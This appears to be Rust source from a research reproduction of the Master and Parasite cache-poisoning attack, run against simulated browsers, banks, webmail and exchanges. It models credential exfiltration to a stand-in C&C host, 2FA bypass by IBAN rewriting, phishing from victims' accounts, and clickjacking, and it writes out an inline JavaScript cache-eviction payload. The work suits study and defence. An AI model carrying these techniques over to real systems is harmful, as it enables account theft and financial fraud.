
        let sites = vec![
            Url::parse("http://news.example/index.html").unwrap(),
            Url::parse("http://shop.example/index.html").unwrap(),
            Url::parse("http://bank.example/index.html").unwrap(),
        ];
        let report = propagate_via_shared_file(&mut browser, &shared, &sites, &infector);
        assert!(report.is_infected("news.example"));
        assert!(report.is_infected("shop.example"));
        // bank.example does not embed the analytics script.
        assert!(!report.is_infected("bank.example"));
    }

    #[test]
    fn shared_cache_propagation_reaches_a_second_device() {
        let infector = infector();
        let mut injecting = InjectingExchange::new(internet(), infector.clone());
        injecting.infect_all(true);
        let squid = table4_entries().into_iter().find(|e| e.name == "Squid").unwrap();
        let cache = SharedCache::new(squid, injecting, false);

        let page = Url::parse("http://news.example/index.html").unwrap();
        let (a, b) = propagate_via_shared_cache(
            cache,
            BrowserProfile::chrome(),
            BrowserProfile::firefox(),
            &page,
            &infector,
        );
        assert!(a, "victim on the hostile path is infected");
        assert!(b, "victim behind the same shared cache is infected too");
    }

    #[test]
    fn clean_path_means_no_propagation() {
        let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(internet()));
        let mut dom = Dom::new(Url::parse("http://news.example/index.html").unwrap());
        let report = propagate_via_iframes(
            &mut browser,
            &mut dom,
            &default_iframe_targets(),
            &infector(),
        );
        assert_eq!(report.infected_count(), 0);
        assert_eq!(report.clean_domains.len(), 3);
    }
}
