//! # parasite
//!
//! Reproduction of *The Master and Parasite Attack* (DSN 2021): the master
//! attacker, cache eviction, TCP injection of parasite scripts, persistence,
//! propagation, the covert command-and-control channel, the application
//! attacks of Table V and the countermeasure analysis of §VIII — implemented
//! against the simulated substrates in the companion crates (`mp-netsim`,
//! `mp-httpsim`, `mp-browser`, `mp-webcache`, `mp-webgen`, `mp-apps`).
//!
//! The crate is organised along the paper's structure:
//!
//! * [`script`] — the parasite payload model (§III, §VI),
//! * [`infect`] — infecting objects, pinning cache headers, stripping
//!   security headers (§VI-A),
//! * [`eviction`] — forcing target objects out of the victim's cache (§IV),
//! * [`injection`] — the eavesdropping master racing spoofed responses, at
//!   packet level and at HTTP level (§V),
//! * [`propagation`] — shared-file, iframe and shared-cache propagation
//!   (§VI-B),
//! * [`cnc`] — the SVG-image-dimension / URL covert channel (§VI-C),
//! * [`master`] — the attacker tying those pieces together,
//! * [`attacks`] — the Table V application attacks (§VII),
//! * [`defense`] — the §VIII countermeasures and their ablation,
//! * [`experiments`] — one [`Experiment`](experiments::Experiment) per table
//!   and figure of the evaluation, with a [`Registry`](experiments::Registry)
//!   and a parallel batch runner ([`experiments::run_many`]),
//! * [`json`] — the minimal JSON model backing the machine-readable
//!   [`Artifact`](experiments::Artifact) output.
//!
//! ## Quickstart
//!
//! ```rust
//! use parasite::experiments::{ExperimentId, Registry, RunConfig};
//!
//! // Regenerate Table III (refresh methods vs Cache-API parasites).
//! let table3 = Registry::get(ExperimentId::Table3).run(&RunConfig::default());
//! assert!(table3.render_text().contains("clear cookies"));
//! ```
#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod attacks;
pub mod cnc;
pub mod defense;
pub mod eviction;
pub mod experiments;
pub mod infect;
pub mod injection;
pub mod json;
pub mod master;
pub mod propagation;
pub mod script;

pub use attacks::{AttackReport, SecurityProperty};
pub use experiments::{run_many, Artifact, ArtifactData, Experiment, ExperimentId, Registry, RunConfig};
pub use json::{Json, ToJson};
pub use cnc::{CncServer, Command};
pub use defense::{AttackStage, Defense};
pub use eviction::{EvictionAttack, EvictionReport};
pub use infect::{InfectionConfig, Infector};
pub use injection::{InjectingExchange, MasterTap};
pub use master::Master;
pub use propagation::PropagationReport;
pub use script::{Parasite, ParasiteModule};
