//! Application attacks carried out by the parasites (paper §VII, Table V).
//!
//! Every row of Table V is represented by an attack module. Modules operate
//! on the simulated substrates — the victim [`Browser`], the page [`Dom`]s of
//! the victim applications from `mp-apps`, and the master's [`CncServer`] —
//! and report whether they succeeded and what evidence they produced
//! (exfiltrated credentials, executed rogue transfers, sent phishing, ...).

use crate::cnc::{encode_upstream, CncServer};
use crate::script::ParasiteModule;
use mp_apps::banking::{BankingApp, TransferOutcome};
use mp_apps::exchange::CryptoExchangeApp;
use mp_apps::social::SocialApp;
use mp_apps::webmail::WebMailApp;
use mp_browser::browser::Browser;
use mp_browser::dom::Dom;
use mp_httpsim::url::Url;
use serde::{Deserialize, Serialize};

/// Security property the attack violates (the C/I/A column of Table V).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum SecurityProperty {
    /// Confidentiality.
    Confidentiality,
    /// Integrity.
    Integrity,
    /// Availability.
    Availability,
}

/// Result of running one attack module.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackReport {
    /// Attack name (Table V row).
    pub name: String,
    /// Property violated.
    pub property: SecurityProperty,
    /// Targets attacked.
    pub target: String,
    /// Whether the attack achieved its goal.
    pub succeeded: bool,
    /// Whether the row's stated requirements were met in this run.
    pub requirements_met: bool,
    /// Human-readable evidence (what was stolen / manipulated / sent).
    pub evidence: Vec<String>,
}

impl AttackReport {
    fn new(name: &str, property: SecurityProperty, target: &str) -> Self {
        AttackReport {
            name: name.to_string(),
            property,
            target: target.to_string(),
            succeeded: false,
            requirements_met: true,
            evidence: Vec::new(),
        }
    }
}

/// Steal login data by hooking the login form's submit event and exfiltrating
/// the captured fields over the C&C channel (Table V row 1).
///
/// `dom` is the login page the parasite runs on; the caller simulates the user
/// typing and submitting. The credentials travel to the master encoded in an
/// image URL.
pub fn steal_login_data(dom: &Dom, cnc: &mut CncServer, campaign: &str) -> AttackReport {
    let mut report = AttackReport::new(
        "Steal Login Data",
        SecurityProperty::Confidentiality,
        &dom.url.host,
    );
    for submission in dom.submissions() {
        let serialized = submission
            .fields
            .iter()
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join("&");
        let exfil_url = encode_upstream(&cnc.host.clone(), campaign, serialized.as_bytes());
        if cnc.receive_upstream(&exfil_url) {
            report.succeeded = true;
            report.evidence.push(serialized);
        }
    }
    report
}

/// Show a fake login overlay when the user is already logged in (the
/// complementary half of row 1: "if the user is logged in we show him a fake
/// login form in the DOM").
pub fn fake_login_overlay(dom: &mut Dom) -> AttackReport {
    let mut report = AttackReport::new("Fake Login Overlay", SecurityProperty::Confidentiality, &dom.url.host);
    let form = dom.add_script_element("form", &[("id", "session-expired-login"), ("action", "/relogin")], "");
    dom.add_script_element("div", &[("class", "overlay")], "Your session expired, please sign in again");
    // Rebind the overlay's inputs to the injected form so a submit captures them.
    let user = dom.add_script_element("input", &[("name", "username"), ("type", "text"), ("value", "")], "");
    let pass = dom.add_script_element("input", &[("name", "password"), ("type", "password"), ("value", "")], "");
    report.succeeded = dom.element(form).is_some() && dom.element(user).is_some() && dom.element(pass).is_some();
    report.evidence.push("overlay elements inserted by script".into());
    report
}

/// Read browser data: cookies (non-HttpOnly) and local storage of the current
/// origin, exfiltrated over C&C (Table V "Browser Data").
pub fn read_browser_data(
    browser: &Browser,
    page_url: &Url,
    cnc: &mut CncServer,
    campaign: &str,
) -> AttackReport {
    let mut report = AttackReport::new("Browser Data", SecurityProperty::Confidentiality, &page_url.host);
    let origin = page_url.origin().to_string();
    let mut collected = Vec::new();
    for cookie in browser.cookies().script_visible(page_url, browser.now()) {
        collected.push(format!("cookie:{cookie}"));
    }
    for (key, value) in browser.storage().dump_origin(&origin) {
        collected.push(format!("localStorage:{key}={value}"));
    }
    if !collected.is_empty() {
        let blob = collected.join(";");
        let url = encode_upstream(&cnc.host.clone(), campaign, blob.as_bytes());
        report.succeeded = cnc.receive_upstream(&url);
        report.evidence = collected;
    }
    report
}

/// Capture protected personal data (geolocation, microphone, webcam) via the
/// browser API. Requires an authorisation previously granted to the attacked
/// domain (Table V "Personal Browser Data" requirements column).
pub fn capture_personal_data(domain_has_permission: bool, page_url: &Url) -> AttackReport {
    let mut report = AttackReport::new(
        "Personal Browser Data",
        SecurityProperty::Confidentiality,
        &page_url.host,
    );
    report.requirements_met = domain_has_permission;
    report.succeeded = domain_has_permission;
    if domain_has_permission {
        report.evidence.push("microphone capture started via mediaDevices".into());
    }
    report
}

/// Read application data out of the DOM: financial status, chats, emails
/// (Table V "Website Data").
pub fn read_website_data(dom: &Dom, cnc: &mut CncServer, campaign: &str) -> AttackReport {
    let mut report = AttackReport::new("Website Data", SecurityProperty::Confidentiality, &dom.url.host);
    let text = dom.visible_text();
    if !text.is_empty() {
        let url = encode_upstream(&cnc.host.clone(), campaign, text.as_bytes());
        report.succeeded = cnc.receive_upstream(&url);
        report.evidence.push(text);
    }
    report
}

/// Cross-tab side channel: two parasites on different tabs of the same
/// machine communicate through a shared-resource timing channel. Modelled as
/// message passing through the shared C&C state (Table V "Side Channels").
pub fn cross_tab_side_channel(cnc: &mut CncServer, campaign: &str, message: &[u8]) -> AttackReport {
    let mut report = AttackReport::new("Side Channels", SecurityProperty::Confidentiality, "browser tabs");
    let url = encode_upstream(&cnc.host.clone(), campaign, message);
    report.succeeded = cnc.receive_upstream(&url);
    report.evidence.push(format!("{} bytes relayed between tabs", message.len()));
    report
}

/// Circumvent two-factor authentication / manipulate a bank transfer
/// (Table V rows "Circumvent Two Factor Authentication" and "Transaction
/// Manipulation").
///
/// The parasite lets the user believe they transfer `user_intended_iban`, but
/// rewrites the form field to the attacker's IBAN before submission. The OTP
/// the user then enters authorises the manipulated transfer — unless the bank
/// uses out-of-band detail confirmation.
pub fn manipulate_bank_transfer(
    bank: &mut BankingApp,
    session: &str,
    user_intended_iban: &str,
    attacker_iban: &str,
    amount_eur: &str,
) -> AttackReport {
    let mut report = AttackReport::new(
        "Transaction Manipulation / 2FA Bypass",
        SecurityProperty::Integrity,
        &bank.host.clone(),
    );
    report.requirements_met = !bank.out_of_band_confirmation;

    let Some((mut dom, form)) = bank.account_dom(session) else {
        report.evidence.push("no authenticated session".into());
        return report;
    };
    let iban_field = dom.by_name("beneficiary_iban").expect("transfer form has beneficiary").id;
    let amount_field = dom.by_name("amount_eur").expect("transfer form has amount").id;

    // The user types their intended beneficiary...
    dom.set_attr(iban_field, "value", user_intended_iban);
    dom.set_attr(amount_field, "value", amount_eur);
    // ...and the parasite rewrites it just before the submit event fires.
    dom.set_attr(iban_field, "value", attacker_iban);
    let submission = dom.submit_form(form).expect("form exists");

    match bank.submit_transfer(session, &submission) {
        TransferOutcome::OtpRequired { pending_id } => {
            // The user reads the OTP off their second factor. Whether they
            // notice the beneficiary depends on the out-of-band defence.
            let display = bank.second_factor_display(pending_id).unwrap_or_default();
            let otp = display
                .split_whitespace()
                .nth(1)
                .unwrap_or_default()
                .to_string();
            match bank.confirm_otp(pending_id, &otp, user_intended_iban) {
                TransferOutcome::Executed => {
                    report.succeeded = true;
                    report
                        .evidence
                        .push(format!("transfer of {amount_eur} EUR redirected to {attacker_iban}"));
                }
                other => report.evidence.push(format!("confirmation failed: {other:?}")),
            }
        }
        TransferOutcome::Executed => {
            report.succeeded = true;
            report.evidence.push("transfer executed without OTP".into());
        }
        TransferOutcome::Rejected { reason } => report.evidence.push(reason),
    }
    report
}

/// Manipulate a crypto-exchange withdrawal address (the exchange variant of
/// transaction manipulation).
pub fn manipulate_withdrawal(
    exchange: &mut CryptoExchangeApp,
    session: &str,
    user_intended_address: &str,
    attacker_address: &str,
    amount: &str,
) -> AttackReport {
    let mut report = AttackReport::new(
        "Transaction Manipulation (crypto exchange)",
        SecurityProperty::Integrity,
        &exchange.host.clone(),
    );
    let Some((mut dom, form)) = exchange.wallet_dom(session) else {
        report.evidence.push("no authenticated session".into());
        return report;
    };
    let destination = dom.by_name("destination").expect("withdraw form").id;
    let amount_field = dom.by_name("amount").expect("withdraw form").id;
    dom.set_attr(destination, "value", user_intended_address);
    dom.set_attr(amount_field, "value", amount);
    dom.set_attr(destination, "value", attacker_address);
    let submission = dom.submit_form(form).expect("form exists");
    if exchange.submit_withdrawal(session, &submission) {
        report.succeeded = exchange
            .withdrawals()
            .iter()
            .any(|w| w.destination == attacker_address);
        report
            .evidence
            .push(format!("withdrawal redirected to {attacker_address}"));
    }
    report
}

/// Send personalised phishing from the victim's own web-mail account
/// (Table V "Send Phishing"). Requires the application tab to be open.
pub fn send_phishing_via_webmail(mail: &mut WebMailApp, session: &str, tab_open: bool) -> AttackReport {
    let mut report = AttackReport::new("Send Phishing (webmail)", SecurityProperty::Integrity, &mail.host.clone());
    report.requirements_met = tab_open;
    if !tab_open {
        report.evidence.push("webmail tab not open".into());
        return report;
    }
    let contacts = mail.contacts(session);
    // Harvest context from the inbox for personalisation.
    let context = mail
        .inbox_dom(session)
        .map(|dom| dom.visible_text())
        .unwrap_or_default();
    let mut sent = 0;
    for contact in &contacts {
        let body = format!(
            "Hi {contact}, please review the attached invoice — re: {}",
            context.lines().next().unwrap_or("our last conversation")
        );
        if mail.send_email(session, contact, "Invoice reminder", &body) {
            sent += 1;
        }
    }
    report.succeeded = sent > 0 && sent == contacts.len();
    report.evidence.push(format!("{sent} personalised phishing mails sent"));
    report
}

/// Send phishing through the victim's chat contacts (WhatsApp-Web style).
pub fn send_phishing_via_chat(social: &mut SocialApp, session: &str, tab_open: bool) -> AttackReport {
    let mut report = AttackReport::new("Send Phishing (chat)", SecurityProperty::Integrity, &social.host.clone());
    report.requirements_met = tab_open;
    if !tab_open {
        return report;
    }
    let friends = social.friends_of(session);
    let mut sent = 0;
    for friend in &friends {
        if social.send_message(session, friend, "check out this link: http://login-verify.attacker.example") {
            sent += 1;
        }
    }
    report.succeeded = sent == friends.len() && sent > 0;
    report.evidence.push(format!("{sent} phishing messages sent"));
    report
}

/// Steal computation resources (crypto-currency mining, hash cracking,
/// distributed scraping). Modelled as work units executed per browsing second.
pub fn steal_computation(work_units: u32) -> AttackReport {
    let mut report = AttackReport::new("Steal Computation Resources", SecurityProperty::Integrity, "victim CPU/GPU");
    // Simulate the mining loop: a deterministic hash-like workload.
    let mut accumulator: u64 = 0x9E3779B97F4A7C15;
    for unit in 0..work_units {
        accumulator = accumulator
            .wrapping_mul(6364136223846793005)
            .wrapping_add(unit as u64);
    }
    report.succeeded = work_units > 0;
    report.evidence.push(format!("{work_units} work units completed (state {accumulator:#x})"));
    report
}

/// Click-jacking: overlay invisible elements over a non-infected site loaded
/// in the victim's browser.
pub fn clickjacking(dom: &mut Dom, target_description: &str) -> AttackReport {
    let mut report = AttackReport::new("Click Jacking", SecurityProperty::Integrity, target_description);
    dom.add_script_element(
        "div",
        &[("style", "opacity:0;position:absolute;top:0;left:0;width:100%;height:100%"), ("id", "clickjack-overlay")],
        "",
    );
    report.succeeded = dom.script_inserted().iter().any(|e| e.attr("id") == Some("clickjack-overlay"));
    report.evidence.push("transparent overlay covering the page".into());
    report
}

/// Ad injection into pages the victim visits.
pub fn ad_injection(dom: &mut Dom, ad_count: usize) -> AttackReport {
    let mut report = AttackReport::new("Ad Injection", SecurityProperty::Availability, &dom.url.host);
    for i in 0..ad_count {
        dom.add_script_element(
            "iframe",
            &[("src", &format!("http://ads.attacker.example/slot{i}")), ("class", "injected-ad")],
            "",
        );
    }
    report.succeeded = dom
        .script_inserted()
        .iter()
        .filter(|e| e.attr("class") == Some("injected-ad"))
        .count()
        == ad_count
        && ad_count > 0;
    report.evidence.push(format!("{ad_count} ad slots injected"));
    report
}

/// Browser-based DDoS: the parasite makes every infected browser issue
/// `requests_per_bot` requests against the target.
pub fn browser_ddos(bot_count: usize, requests_per_bot: usize, target: &str) -> AttackReport {
    let mut report = AttackReport::new("DDoS", SecurityProperty::Availability, target);
    let total = bot_count * requests_per_bot;
    report.succeeded = total > 0;
    report.evidence.push(format!("{total} requests aimed at {target} from {bot_count} bots"));
    report
}

/// Internal-network reconnaissance via WebRTC/WebSocket probing: the parasite
/// learns the victim's internal address and fingerprints reachable devices.
pub fn internal_network_recon(internal_hosts: &[(&str, bool)]) -> AttackReport {
    let mut report = AttackReport::new(
        "Attack Insecure Routers and internal IoT Devices",
        SecurityProperty::Integrity,
        "victim internal network",
    );
    let discovered: Vec<String> = internal_hosts
        .iter()
        .filter(|(_, reachable)| *reachable)
        .map(|(host, _)| host.to_string())
        .collect();
    report.succeeded = !discovered.is_empty();
    report.evidence = discovered;
    report
}

/// Low-level exploit loaders (CPU-cache/Spectre timing, Rowhammer, 0-day on
/// demand). The parasite's role is only to *deliver and launch* the exploit
/// JavaScript; success depends on the platform lacking mitigations, which the
/// caller states.
pub fn low_level_exploit(name: &str, platform_vulnerable: bool) -> AttackReport {
    let mut report = AttackReport::new(name, SecurityProperty::Confidentiality, "victim OS / hardware");
    report.requirements_met = platform_vulnerable;
    report.succeeded = platform_vulnerable;
    report.evidence.push(if platform_vulnerable {
        "exploit payload delivered and executed".to_string()
    } else {
        "payload delivered; platform mitigations blocked exploitation".to_string()
    });
    report
}

/// Returns the module that implements a given Table V attack name, for
/// mapping command-and-control instructions onto modules.
pub fn module_for_attack(name: &str) -> Option<ParasiteModule> {
    match name {
        "Steal Login Data" | "Fake Login Overlay" => Some(ParasiteModule::ExtractLoginData),
        "Browser Data" => Some(ParasiteModule::ReadBrowserData),
        "Personal Browser Data" => Some(ParasiteModule::ExtractProtectedData),
        "Website Data" => Some(ParasiteModule::ReadDomData),
        "Side Channels" => Some(ParasiteModule::SideChannels),
        "Transaction Manipulation / 2FA Bypass" | "Transaction Manipulation (crypto exchange)" => {
            Some(ParasiteModule::ManipulateTransactions)
        }
        "Send Phishing (webmail)" | "Send Phishing (chat)" => Some(ParasiteModule::Phishing),
        "Steal Computation Resources" => Some(ParasiteModule::StealComputation),
        "Click Jacking" => Some(ParasiteModule::AdInjection),
        "Ad Injection" => Some(ParasiteModule::AdInjection),
        "DDoS" | "DDoS Internal Systems" => Some(ParasiteModule::Ddos),
        "Attack Insecure Routers and internal IoT Devices" => Some(ParasiteModule::InternalNetworkRecon),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mp_apps::banking::BankingApp;

    fn cnc() -> CncServer {
        CncServer::new("master.attacker.example")
    }

    fn bank_session(bank: &mut BankingApp) -> String {
        let (mut dom, form) = bank.login_dom();
        let user = dom.by_name("username").unwrap().id;
        let pass = dom.by_name("password").unwrap().id;
        dom.set_attr(user, "value", "alice");
        dom.set_attr(pass, "value", "correct-horse");
        let submission = dom.submit_form(form).unwrap();
        bank.login(&submission).unwrap()
    }

    #[test]
    fn login_theft_captures_submitted_credentials() {
        let bank = BankingApp::default();
        let (mut dom, form) = bank.login_dom();
        let user = dom.by_name("username").unwrap().id;
        let pass = dom.by_name("password").unwrap().id;
        dom.set_attr(user, "value", "alice");
        dom.set_attr(pass, "value", "correct-horse");
        dom.submit_form(form).unwrap();

        let mut server = cnc();
        let report = steal_login_data(&dom, &mut server, "campaign-0");
        assert!(report.succeeded);
        assert!(report.evidence[0].contains("password=correct-horse"));
        let exfil = String::from_utf8(server.exfiltrated()[0].data.clone()).unwrap();
        assert!(exfil.contains("username=alice"));
    }

    #[test]
    fn two_factor_bypass_succeeds_without_out_of_band_confirmation() {
        let mut bank = BankingApp::default();
        let session = bank_session(&mut bank);
        let report = manipulate_bank_transfer(
            &mut bank,
            &session,
            "FR76 3000 6000 0112 3456 7890 189",
            "GB29 ATTACKER 0000 0000 0000 00",
            "480.00",
        );
        assert!(report.succeeded, "{report:?}");
        assert_eq!(bank.executed_transfers()[0].beneficiary_iban, "GB29 ATTACKER 0000 0000 0000 00");
    }

    #[test]
    fn out_of_band_confirmation_defeats_the_manipulation() {
        let mut bank = BankingApp::new("bank.example").with_out_of_band_confirmation();
        let session = bank_session(&mut bank);
        let report = manipulate_bank_transfer(
            &mut bank,
            &session,
            "FR76 3000 6000 0112 3456 7890 189",
            "GB29 ATTACKER 0000 0000 0000 00",
            "480.00",
        );
        assert!(!report.succeeded);
        assert!(!report.requirements_met);
        assert!(bank.executed_transfers().is_empty());
    }

    #[test]
    fn phishing_requires_an_open_tab_and_reaches_all_contacts() {
        let mut mail = WebMailApp::default();
        let (mut dom, form) = mail.login_dom();
        let email = dom.by_name("email").unwrap().id;
        let password = dom.by_name("password").unwrap().id;
        dom.set_attr(email, "value", "alice@mail.example");
        dom.set_attr(password, "value", "mail-pass-123");
        let session = mail.login(&dom.submit_form(form).unwrap()).unwrap();

        let blocked = send_phishing_via_webmail(&mut mail, &session, false);
        assert!(!blocked.succeeded && !blocked.requirements_met);

        let report = send_phishing_via_webmail(&mut mail, &session, true);
        assert!(report.succeeded);
        assert_eq!(mail.mailbox("alice@mail.example").unwrap().sent.len(), 3);
        // The phishing is personalised from harvested inbox content.
        assert!(mail.mailbox("alice@mail.example").unwrap().sent[0].body.contains("re:"));
    }

    #[test]
    fn dom_and_browser_data_exfiltration() {
        use mp_browser::profile::BrowserProfile;
        use mp_httpsim::transport::Internet;

        let mut mail = WebMailApp::default();
        let (mut dom, form) = mail.login_dom();
        let email = dom.by_name("email").unwrap().id;
        let password = dom.by_name("password").unwrap().id;
        dom.set_attr(email, "value", "alice@mail.example");
        dom.set_attr(password, "value", "mail-pass-123");
        let session = mail.login(&dom.submit_form(form).unwrap()).unwrap();
        let inbox = mail.inbox_dom(&session).unwrap();

        let mut server = cnc();
        let report = read_website_data(&inbox, &mut server, "campaign-0");
        assert!(report.succeeded);
        assert!(String::from_utf8_lossy(&server.exfiltrated()[0].data).contains("invoice"));

        let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(Internet::new()));
        let page = Url::parse("https://mail.example/inbox").unwrap();
        browser.cookies_mut().set_from_header("theme=dark", &page, 0);
        browser.storage_mut().set_item(&page.origin().to_string(), "draft", "call the bank tomorrow");
        let report = read_browser_data(&browser, &page, &mut server, "campaign-0");
        assert!(report.succeeded);
        assert!(report.evidence.iter().any(|e| e.contains("theme=dark")));
        assert!(report.evidence.iter().any(|e| e.contains("draft")));
    }

    #[test]
    fn availability_and_misc_modules_report_sensibly() {
        let mut dom = Dom::new(Url::parse("http://news.example/").unwrap());
        assert!(clickjacking(&mut dom, "news.example").succeeded);
        assert!(ad_injection(&mut dom, 3).succeeded);
        assert!(!ad_injection(&mut dom, 0).succeeded);
        assert!(browser_ddos(100, 50, "victim.example").succeeded);
        assert!(steal_computation(1000).succeeded);
        assert!(!steal_computation(0).succeeded);
        let recon = internal_network_recon(&[("192.168.0.1 (router)", true), ("192.168.0.42 (camera)", true), ("192.168.0.77", false)]);
        assert!(recon.succeeded);
        assert_eq!(recon.evidence.len(), 2);
        assert!(low_level_exploit("Rowhammer", true).succeeded);
        assert!(!low_level_exploit("JS CPU Cache & Spectre", false).succeeded);
        assert!(capture_personal_data(true, &Url::parse("https://conference.example/").unwrap()).succeeded);
        assert!(!capture_personal_data(false, &Url::parse("https://conference.example/").unwrap()).succeeded);
        let mut server = cnc();
        assert!(cross_tab_side_channel(&mut server, "campaign-0", b"tab1->tab2").succeeded);
    }

    #[test]
    fn fake_login_and_module_mapping() {
        let mut dom = Dom::new(Url::parse("https://social.example/feed").unwrap());
        let report = fake_login_overlay(&mut dom);
        assert!(report.succeeded);
        assert!(dom.script_inserted().len() >= 3);
        assert_eq!(module_for_attack("Steal Login Data"), Some(ParasiteModule::ExtractLoginData));
        assert_eq!(module_for_attack("DDoS"), Some(ParasiteModule::Ddos));
        assert_eq!(module_for_attack("not a row"), None);
    }

    #[test]
    fn withdrawal_manipulation_hits_the_exchange() {
        let mut exchange = CryptoExchangeApp::default();
        let (mut dom, form) = exchange.login_dom();
        let account = dom.by_name("account").unwrap().id;
        let password = dom.by_name("password").unwrap().id;
        dom.set_attr(account, "value", "alice");
        dom.set_attr(password, "value", "to-the-moon");
        let session = exchange.login(&dom.submit_form(form).unwrap()).unwrap();
        let report = manipulate_withdrawal(
            &mut exchange,
            &session,
            "bc1qlegitimatefriend00000000000000000",
            "bc1qattacker0000000000000000000000000",
            "250000",
        );
        assert!(report.succeeded);
        assert_eq!(exchange.withdrawals()[0].destination, "bc1qattacker0000000000000000000000000");
    }

    #[test]
    fn chat_phishing_requires_an_open_tab_and_reaches_all_friends() {
        let mut social = SocialApp::default();
        let (mut dom, form) = social.login_dom();
        let handle = dom.by_name("handle").unwrap().id;
        let password = dom.by_name("password").unwrap().id;
        dom.set_attr(handle, "value", "alice");
        dom.set_attr(password, "value", "social-pass");
        let session = social.login(&dom.submit_form(form).unwrap()).unwrap();

        let baseline = social.messages().len();
        let blocked = send_phishing_via_chat(&mut social, &session, false);
        assert!(!blocked.succeeded && !blocked.requirements_met);
        assert_eq!(social.messages().len(), baseline, "closed tab must send nothing");

        let friends = social.friends_of(&session);
        assert!(!friends.is_empty());
        let report = send_phishing_via_chat(&mut social, &session, true);
        assert!(report.succeeded, "{report:?}");
        let sent = &social.messages()[baseline..];
        assert_eq!(sent.len(), friends.len());
        assert!(sent.iter().all(|m| m.text.contains("attacker.example")));
    }

    #[test]
    fn login_theft_fails_without_a_captured_submission() {
        // The parasite hooked the submit event, but the user never submitted:
        // nothing to steal, nothing on the wire.
        let bank = BankingApp::default();
        let (dom, _form) = bank.login_dom();
        let mut server = cnc();
        let report = steal_login_data(&dom, &mut server, "campaign-0");
        assert!(!report.succeeded);
        assert!(report.evidence.is_empty());
        assert!(server.exfiltrated().is_empty());
    }

    #[test]
    fn side_channel_delivers_the_exact_message_bytes() {
        let mut server = cnc();
        let message = b"window-a: otp=831245";
        let report = cross_tab_side_channel(&mut server, "campaign-7", message);
        assert!(report.succeeded);
        assert_eq!(server.exfiltrated().len(), 1);
        assert_eq!(server.exfiltrated()[0].data, message);
        assert_eq!(server.exfiltrated()[0].campaign, "campaign-7");
    }

    #[test]
    fn empty_browser_state_yields_no_exfiltration() {
        use mp_browser::profile::BrowserProfile;
        use mp_httpsim::transport::Internet;

        let browser = Browser::new(BrowserProfile::chrome(), Box::new(Internet::new()));
        let page = Url::parse("https://fresh.example/").unwrap();
        let mut server = cnc();
        let report = read_browser_data(&browser, &page, &mut server, "campaign-0");
        assert!(!report.succeeded);
        assert!(server.exfiltrated().is_empty());
    }

    /// Uniform invariants every attack module must uphold: a success implies
    /// its requirements were met, a success carries evidence, and every
    /// report name maps onto a parasite module.
    #[test]
    fn every_report_upholds_the_success_and_mapping_invariants() {
        let mut server = cnc();
        let mut dom = Dom::new(Url::parse("http://news.example/").unwrap());
        let page = Url::parse("https://bank.example/account").unwrap();
        let mut bank = BankingApp::default();
        let session = bank_session(&mut bank);
        let mut defended = BankingApp::new("bank.example").with_out_of_band_confirmation();
        let defended_session = bank_session(&mut defended);
        let mut mail = WebMailApp::default();

        let reports = vec![
            steal_login_data(&dom, &mut server, "campaign-0"),
            fake_login_overlay(&mut dom),
            capture_personal_data(true, &page),
            capture_personal_data(false, &page),
            cross_tab_side_channel(&mut server, "campaign-0", b"sync"),
            send_phishing_via_webmail(&mut mail, "bogus-session", true),
            send_phishing_via_webmail(&mut mail, "bogus-session", false),
            manipulate_bank_transfer(&mut bank, &session, "FR76 1", "GB29 2", "10.00"),
            manipulate_bank_transfer(&mut defended, &defended_session, "FR76 1", "GB29 2", "10.00"),
            steal_computation(100),
            steal_computation(0),
            clickjacking(&mut dom, "news.example"),
            ad_injection(&mut dom, 2),
            browser_ddos(10, 10, "victim.example"),
            browser_ddos(0, 0, "victim.example"),
            internal_network_recon(&[("192.168.0.1", true)]),
            internal_network_recon(&[("192.168.0.1", false)]),
            low_level_exploit("Rowhammer", true),
            low_level_exploit("Rowhammer", false),
        ];
        for report in &reports {
            if report.succeeded {
                assert!(
                    report.requirements_met,
                    "{}: succeeded although its requirements were not met",
                    report.name
                );
                assert!(!report.evidence.is_empty(), "{}: success without evidence", report.name);
            }
            if report.name != "Rowhammer" {
                assert!(
                    module_for_attack(&report.name).is_some(),
                    "{}: no parasite module mapped",
                    report.name
                );
            }
        }
    }
}
