//! Cache eviction (paper §IV, Figure 1, Table I).
//!
//! Before a target object can be re-fetched (and therefore infected), the
//! copy already sitting in the victim's browser cache has to go. The attacker
//! injects a small inline script into any open HTTP page; the script loads a
//! stream of junk images from the attacker's domain until the cache budget is
//! exhausted and the browser has evicted the older entries — including the
//! target objects.

use mp_browser::browser::Browser;
use mp_browser::profile::{BrowserProfile, EvictionBehaviour};
use mp_httpsim::url::{Scheme, Url};
use serde::{Deserialize, Serialize};

/// The attacker's junk-object host.
pub const JUNK_HOST: &str = "cdn.attacker.example";

/// Result of running the eviction attack against one browser.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct EvictionReport {
    /// Which browser was attacked.
    pub browser: String,
    /// Whether every target object was evicted from the HTTP cache.
    pub evicted_targets: bool,
    /// Whether junk from the attacker's domain was able to displace entries
    /// of *other* domains (the "inter-domain" column of Table I).
    pub inter_domain: bool,
    /// Junk objects that were loaded.
    pub junk_objects_loaded: usize,
    /// Bytes of junk transferred.
    pub junk_bytes: u64,
    /// Peak-to-capacity memory pressure after the attack; values far above
    /// 1.0 indicate the Internet-Explorer-style memory exhaustion.
    pub memory_pressure: f64,
    /// Nominal cache capacity of the profile (the "Size" column).
    pub cache_capacity_bytes: u64,
    /// Free-text remark matching the paper's Remarks column.
    pub remark: String,
}

/// The inline script the attacker injects to trigger the junk loads, as it
/// would appear on the wire (Figure 1, step 2).
pub fn eviction_inline_script(junk_count: usize) -> String {
    format!(
        "(function __mp_evict(){{for(var i=0;i<{junk_count};i++){{var img=new Image();img.src='http://{JUNK_HOST}/junk'+i+'.jpg';}}}})();"
    )
}

/// The URL of the `i`-th junk object.
pub fn junk_url(index: usize) -> Url {
    Url::from_parts(Scheme::Http, JUNK_HOST, format!("/junk{index:04}.jpg"))
}

/// Cache-eviction attack driver.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct EvictionAttack {
    /// Size of each junk object in bytes.
